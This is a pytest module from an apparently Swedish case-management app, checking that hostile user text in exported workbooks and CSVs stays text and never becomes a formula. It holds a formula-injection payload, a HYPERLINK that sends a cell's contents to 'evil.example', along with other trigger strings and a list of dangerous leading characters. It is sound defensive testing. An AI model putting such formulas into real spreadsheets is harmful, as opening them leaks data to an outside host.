"""User text never becomes a spreadsheet formula (issue 16, finding 2).

One investigation whose texts are hostile (names, titles, comments, who made a change) is
exported to every workbook and CSV the app writes; the files are then read as raw XML/CSV:

* no cell formula in any workbook except the cost model's own (``exporting/costs_xlsx.py``),
  which use only the functions and quoted words the app itself writes (never user text);
* no CSV field starts with ``= + - @``, tab or carriage return (OWASP: quote-prefixed);
* positive control: the hostile texts are really in the files (as text).
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree

import pytest
from sqlalchemy import select

from tests.reliability.stats import record
from utredning_app.cli import main as cli_main
from utredning_app.domain.enums import Actor, ConsulteeType
from utredning_app.storage import models as m
from utredning_app.storage.database import open_database

REPRO = '=HYPERLINK("http://evil.example/x?d="&B3,"Region Uppsala")'
HOSTILE = (REPRO, "+1", "-1+2", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1+1")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def hostile(i: int) -> str:
    """The i-th hostile text: the list first as it is, then numbered variants (unique names)."""
    base = HOSTILE[i % len(HOSTILE)]
    return base if i < len(HOSTILE) else f"{base} {i}"


def _poison(path: Path, consultee_list: Path) -> None:
    """Hostile text in every user text the exports carry, written by hostile "users"."""
    from openpyxl import Workbook

    # The repro: a consultee list whose name cell holds the formula *as text*.
    wb = Workbook()
    ws = wb.active
    ws.append(["Namn", "Typ", "Kontaktperson", "E-post"])
    ws.append(["x", "Organisation", "+46 8 123", "@kontakt"])
    ws["A2"].value = REPRO
    ws["A2"].data_type = "s"
    wb.save(consultee_list)
    assert cli_main(["remiss", "instanser", str(path), "--importera", str(consultee_list)]) == 0

    counter = iter(range(10_000))
    for actor in HOSTILE:
        with open_database(path, actor=actor) as db, db.transaction() as s:
            inv = db.investigation(s)
            inv.title = hostile(next(counter))
            inv.diarienummer = hostile(next(counter))
            rnd = s.scalars(select(m.ConsultationRound).order_by(m.ConsultationRound.id)).first()
            assert rnd is not None
            for row in s.scalars(select(m.Consultee)):
                if row.name != REPRO:
                    row.name = hostile(next(counter))
                row.contact_name = hostile(next(counter))
                row.email = hostile(next(counter))
                row.address = hostile(next(counter))
            s.add(
                m.Consultee(
                    round_id=rnd.id,
                    name=hostile(next(counter)),
                    type=ConsulteeType.OVRIG,
                    invited=True,
                    contact_name=hostile(next(counter)),
                    email=hostile(next(counter)),
                )
            )
            for p in s.scalars(select(m.Proposal)):
                p.title = hostile(next(counter))
            for st in s.scalars(select(m.Stance)):
                st.comment_md = hostile(next(counter))
            for q in s.scalars(select(m.Quote)):
                q.is_key = True
            for o in s.scalars(select(m.GovernanceOption)):
                o.name = hostile(next(counter))
            for u in s.scalars(select(m.ProviderUnit)):
                u.name = hostile(next(counter))
                u.short_name = hostile(next(counter))[:20]
            for e in s.scalars(select(m.Estimate)):
                e.name = hostile(next(counter))
                e.assumption_md = hostile(next(counter))
                e.source = hostile(next(counter))
                e.financing = hostile(next(counter))
                e.actor = Actor.REGION if e.actor is None else e.actor
            for c in s.scalars(select(m.Criterion)):
                c.name = hostile(next(counter))


# ------------------------------------------------------------------ the exports


def _cli(*args: str) -> None:
    assert cli_main(list(args)) == 0, args


def _exports(source: Path, out: Path) -> list[Path]:
    """Every workbook and CSV the app writes (the Excel kinds as registered)."""
    from utredning_app.services.exports import xlsx_kinds

    made: list[Path] = []

    def add(name: str, run: Callable[[Path], None]) -> None:
        target = out / name
        run(target)
        made.append(target)

    add("logg.csv", lambda t: _cli("logg", str(source), "-o", str(t), "--med-privat"))
    add("logg.xlsx", lambda t: _cli("logg", str(source), "-o", str(t), "--med-privat"))
    add(
        "påminnelser.xlsx", lambda t: _cli("remiss", "status", str(source), "--paminnelser", str(t))
    )
    add("påminnelser.csv", lambda t: _cli("remiss", "status", str(source), "--paminnelser", str(t)))
    add("instanser.xlsx", lambda t: _cli("remiss", "instanser", str(source), "--exportera", str(t)))
    add("utskick", lambda t: _cli("remiss", "utskick", str(source), "-o", str(t)))
    for kind in xlsx_kinds():
        add(
            f"export-{kind}.xlsx",
            lambda t, k=kind: _cli("export-xlsx", k, str(source), "-o", str(t)),
        )
    return made


def _files(paths: list[Path]) -> list[Path]:
    found: list[Path] = []
    for p in paths:
        found.extend(sorted(f for f in p.rglob("*") if f.is_file()) if p.is_dir() else [p])
    return [f for f in found if f.suffix in (".xlsx", ".csv")]


# ------------------------------------------------------------------ the scans


def _cell_formulas(path: Path) -> list[tuple[str, str]]:
    """(sheet part:cell, formula) for every cell formula in the workbook."""
    found: list[tuple[str, str]] = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if not re.match(r"xl/worksheets/sheet\d+\.xml$", name):
                continue
            root = ElementTree.fromstring(zf.read(name))
            for cell in root.iter(f"{{{NS['x']}}}c"):
                f = cell.find("x:f", NS)
                if f is not None:
                    found.append((f"{name}:{cell.get('r')}", f.text or ""))
    return found


def _workbook_text(path: Path) -> str:
    with zipfile.ZipFile(path) as zf:
        return "\n".join(zf.read(n).decode("utf-8", "replace") for n in zf.namelist())


def _intended(formula: str) -> bool:
    """The cost model's own formulas: cell references, numbers, the functions it uses and,
    quoted, only the words the app writes itself (ja, actors, scenarios) — no user text."""
    from utredning_app.domain.costs import Scenario
    from utredning_app.exporting.costs_layout import YES

    words = {YES, *(a.label for a in Actor), *(s.label for s in Scenario)}
    literals = re.findall(r'"([^"]*)"', formula)
    if any(lit not in words for lit in literals):
        return False
    rest = re.sub(r'"[^"]*"', "", formula)
    functions = set(re.findall(r"([A-Z][A-Z0-9.]*)\(", rest))
    if not functions <= {"SUM", "SUMIFS", "SUMPRODUCT"}:
        return False
    return re.fullmatch(r"[A-Za-z0-9$:!'_ .,+\-*/^()Åäåöü]*", rest.replace("Ä", "")) is not None


def _csv_fields(path: Path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")
    return [f for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for f in row]


@pytest.fixture(scope="module")
def hostile_exports(tmp_path_factory: pytest.TempPathFactory, demo_template: Path) -> list[Path]:
    """Made once for the module (the exports take a while), with the user's data and backup
    folders kept inside the temporary folder as in every test."""
    folder = tmp_path_factory.mktemp("fientlig")
    source = folder / "demo.utredning"
    shutil.copyfile(demo_template, source)
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("UTREDNING_DATA_DIR", str(folder / "användardata"))
        mp.setenv("UTREDNING_BACKUP_DIR", str(folder / "säkerhetskopior"))
        _poison(source, folder / "lista.xlsx")
        out = folder / "ut"
        out.mkdir()
        return _files(_exports(source, out))


def test_no_user_text_becomes_a_formula(hostile_exports: list[Path]) -> None:
    kinds = {p.name for p in hostile_exports}
    assert {"logg.csv", "logg.xlsx", "påminnelser.xlsx", "påminnelser.csv"} <= kinds
    assert "export-kostnader.xlsx" in kinds and "export-remiss.xlsx" in kinds
    assert any(p.parent.name == "utskick" and p.suffix == ".xlsx" for p in hostile_exports)
    bad: list[str] = []
    intended = 0
    for path in hostile_exports:
        found: list[str] = []
        if path.suffix == ".xlsx":
            for where, formula in _cell_formulas(path):
                if path.name == "export-kostnader.xlsx" and _intended(formula):
                    intended += 1
                else:
                    found.append(f"{path.name} {where}: ={formula}")
        else:
            found.extend(
                f"{path.name}: {field!r}"
                for field in _csv_fields(path)
                if field.startswith(TRIGGERS)
            )
        kind = "svarsmall.xlsx" if path.parent.name == "utskick" else path.name
        record("formula", kind, survived=not found)  # one count per file in the report
        bad.extend(found)
    assert not bad, "formler/farliga CSV-fält från användartext:\n" + "\n".join(bad[:20])
    assert intended > 50  # the cost model's own formulas are there (the scan sees formulas)


def test_hostile_texts_are_in_the_files_as_text(hostile_exports: list[Path]) -> None:
    """Positive control: the texts reach the files (so the scan above scanned something)."""
    by_name = {p.name: p for p in hostile_exports}
    for name in ("påminnelser.xlsx", "instanser.xlsx", "export-remiss.xlsx"):
        assert "evil.example" in _workbook_text(by_name[name]), name
    forms = [p for p in hostile_exports if p.parent.name == "utskick" and p.suffix == ".xlsx"]
    assert any("+1" in _workbook_text(p) for p in forms)  # proposal titles in the svarsmall
    assert "SUM(A1:A2)" in _workbook_text(by_name["export-kostnader.xlsx"])
    fields = _csv_fields(by_name["påminnelser.csv"])
    assert "'" + REPRO in fields  # quote-prefixed, otherwise exactly the text
    assert any(f.startswith("'\t") for f in _csv_fields(by_name["logg.csv"]))


def test_exported_consultee_list_reads_back_unchanged(demo_path: Path, tmp_path: Path) -> None:
    """String cells keep the text exactly: export → import elsewhere gives the same names."""
    from utredning_app.services.consultees import read_sheet

    _poison(demo_path, tmp_path / "lista.xlsx")
    out = tmp_path / "instanser.xlsx"
    _cli("remiss", "instanser", str(demo_path), "--exportera", str(out))
    names = {row[0] for row in read_sheet(out).rows}
    with open_database(demo_path, read_only=True) as db:
        from utredning_app.services.consultees import list_consultees

        assert names == {c.name.strip() for c in list_consultees(db)}  # the reader strips
    assert REPRO in names
    assert {n[:2] for n in names} >= {"+1", "-1", "@S", "=1", "=H"}
